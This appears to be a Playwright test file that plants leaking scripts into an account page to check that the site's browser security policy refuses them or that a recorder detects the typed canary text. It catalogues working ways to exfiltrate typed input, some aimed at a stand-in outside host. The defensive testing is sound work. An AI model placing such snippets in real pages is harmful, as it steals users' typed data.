"""Leaks built in on purpose: each must be found by the search, or refused by the browser."""

from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page

from web.browsing import Site
from web.checks.recording import Recorder, files_in, found, recorder
from web.checks.typing_in import SLOWEST_MS, kept_by_worker, opened, settle, until

CANARY = "Wij zijn woest, kanarie-5k2xw8 vliegt één keer weg"
SCRIPT = "/checks/offline.js"
WORKER = "/sw.js"
SHORT_MS = 100
LISTENING = """
globalThis.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  globalThis.refused.push(event.effectiveDirective);
});
const add = (name, more) =>
  document.body.append(Object.assign(document.createElement(name), more));
document.addEventListener("input", ({ target: { value: text } }) => {
  const coded = encodeURIComponent(text);
  %s
});
"""

REFUSED = {
    "connect-src": [
        "fetch('/check/', { method: 'POST', body: text }).catch(() => {});",
        "fetch('https://elsewhere.example/?' + coded).catch(() => {});",
        "navigator.sendBeacon('/check/', text);",
        "new WebSocket('ws://' + location.host + '/?' + coded);",
        "new EventSource('/check/?' + coded);",
        "const a = new XMLHttpRequest(); a.open('POST', '/'); try { a.send(text); } catch {}",
    ],
    "img-src": [
        "new Image().src = '/favicon.ico?' + coded;",
        "new Image().src = 'https://elsewhere.example/?' + coded;",
    ],
    "form-action": ["add('form', { id: 'sent', action: '/?' + coded }); sent.submit();"],
    "frame-src": ["add('iframe', { src: '/check/?' + coded });"],
    "style-src-elem": ["add('style', { textContent: `@import '/?${coded}'` });"],
    "require-trusted-types-for": [
        "try { add('p', { innerHTML: text }); } catch {}",
        "try { add('script', { src: '/?' + coded }); } catch {}",
    ],
}
FOUND = {
    "going to another address": "location.href = '/?' + coded;",
    "another address, in base64": "location.href = '/?' + btoa(unescape(coded));",
    "a new window": "window.open('/?' + coded);",
    "a script with a query": "import('/sw.js?' + coded).catch(() => {});",
    "a style sheet with a query": (
        "add('link', { rel: 'stylesheet', href: '/kit/accent-000000.css?' + coded });"
    ),
    "a cookie": (
        "document.cookie = `said=${coded};path=/`; import('/sw.js?' + Date.now()).catch(() => {});"
    ),
}
A_LETTER_AT_A_TIME = "for (const each of coded) import('/sw.js?' + each).catch(() => {});"
KEPT = {
    "localStorage": "localStorage.setItem('said', text);",
    "IndexedDB": "const asked = indexedDB.open('said'); asked.onupgradeneeded = () => "
    "asked.result.createObjectStore('said').put(text, 'said');",
    "Cache": "caches.open('said').then((cache) => cache.put('/said', new Response(text)));",
    "history": "history.replaceState(null, '', '?' + encodeURIComponent(text));",
    "title": "document.title = text;",
}


def planting(leak: str) -> Callable[[bytes], bytes]:
    return lambda script: script + (LISTENING % leak).encode()


def type_past(page: Page, recording: Recorder, text: str = CANARY) -> int:
    """Types in a page that may leak, and says how much was sent before."""
    page.goto("/account/")
    page.locator("#bio").wait_for()
    before = settle(page, recording, quiet_ms=SHORT_MS)
    page.locator("#bio").fill(text)
    return before


def is_found(page: Page, recording: Recorder) -> bool:
    """Whether the sentence is sent within the time that a request may take."""
    for _ in range(SLOWEST_MS // SHORT_MS):
        if found(CANARY, {"requests": recording.everything}):
            return True
        page.wait_for_timeout(SHORT_MS)
    return False


@pytest.fixture(scope="module")
def signed_in(
    site: Site, browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[BrowserContext, Recorder]]:
    """A browser of Lotte without a service worker, so that scripts come past the recorder."""
    profile = tmp_path_factory.mktemp("leaking")
    with (
        recorder(site.url) as recording,
        opened(browser, recording, profile, service_workers="block") as page,
    ):
        yield page.context, recording


@pytest.fixture
def leaking(signed_in: tuple[BrowserContext, Recorder]) -> Iterator[tuple[Page, Recorder]]:
    """A page of its own, whose script can be given another text."""
    context, recording = signed_in
    page = context.new_page()
    yield page, recording
    for each in context.pages[1:]:
        # Chromium forgets to close a page that is just arriving somewhere (crbug.com/536385539).
        with suppress(Error):  # the page may still be on its way, and then only this ends that
            each.goto("about:blank")
        each.goto("about:blank")
        each.close()


@pytest.mark.promise(2)
def test_without_a_leak_nothing_is_found(leaking: tuple[Page, Recorder]) -> None:
    page, recording = leaking
    recording.planted = {SCRIPT: planting("")}

    before = type_past(page, recording)

    assert settle(page, recording) == before
    assert page.evaluate("refused") == []


@pytest.mark.parametrize(
    ("directive", "leak"),
    [(directive, leak) for directive, leaks in REFUSED.items() for leak in leaks],
)
def test_browser_refuses_and_tells(
    leaking: tuple[Page, Recorder], directive: str, leak: str
) -> None:
    page, recording = leaking
    recording.planted = {SCRIPT: planting(leak)}

    before = type_past(page, recording)

    until(page, "refused.length > 0")
    assert settle(page, recording, quiet_ms=SHORT_MS) == before
    assert set(page.evaluate("refused")) == {directive}


@pytest.mark.parametrize("leak", FOUND)
def test_what_no_rule_refuses_is_found(leaking: tuple[Page, Recorder], leak: str) -> None:
    page, recording = leaking
    recording.planted = {SCRIPT: planting(FOUND[leak])}
    recording.sent.clear()

    type_past(page, recording)

    assert is_found(page, recording)


def test_letter_at_a_time_is_seen_as_traffic(leaking: tuple[Page, Recorder]) -> None:
    page, recording = leaking
    recording.planted = {SCRIPT: planting(A_LETTER_AT_A_TIME)}

    before = type_past(page, recording)

    assert settle(page, recording) > before


@pytest.mark.promise(2)
def test_what_is_kept_on_the_device_is_found(site: Site, browser: Browser, tmp_path: Path) -> None:
    canaries = {name: f"kanarie-{number}m4tz{number}" for number, name in enumerate(KEPT)}
    with (
        recorder(site.url) as recording,
        opened(browser, recording, tmp_path, service_workers="block") as page,
    ):
        for name, leak in KEPT.items():
            recording.planted = {SCRIPT: planting(leak)}
            type_past(page, recording, canaries[name])
            settle(page, recording)

    kept = files_in(tmp_path)

    assert [name for name, canary in canaries.items() if not found(canary, kept)] == []


def test_service_worker_that_passes_on_is_found(
    site: Site, browser: Browser, tmp_path: Path
) -> None:
    passes_on = b"self.addEventListener('message', ({ data }) => fetch('/?' + data));"
    leak = "navigator.serviceWorker.controller.postMessage(encodeURIComponent(text));"
    with recorder(site.url) as recording, opened(browser, recording, tmp_path) as page:
        recording.planted = {
            WORKER: lambda worker: worker + passes_on,
            SCRIPT: planting(leak),
        }
        page.goto("/account/")
        kept_by_worker(page.context, page)

        type_past(page, recording)

        assert is_found(page, recording)


@pytest.mark.promise(2)
def test_service_worker_refuses_a_script_with_a_query(
    site: Site, browser: Browser, tmp_path: Path
) -> None:
    leak = FOUND["a script with a query"]
    with recorder(site.url) as recording, opened(browser, recording, tmp_path) as page:
        recording.planted = {SCRIPT: planting(leak)}
        page.goto("/account/")
        kept_by_worker(page.context, page)

        before = type_past(page, recording)

        assert settle(page, recording) == before
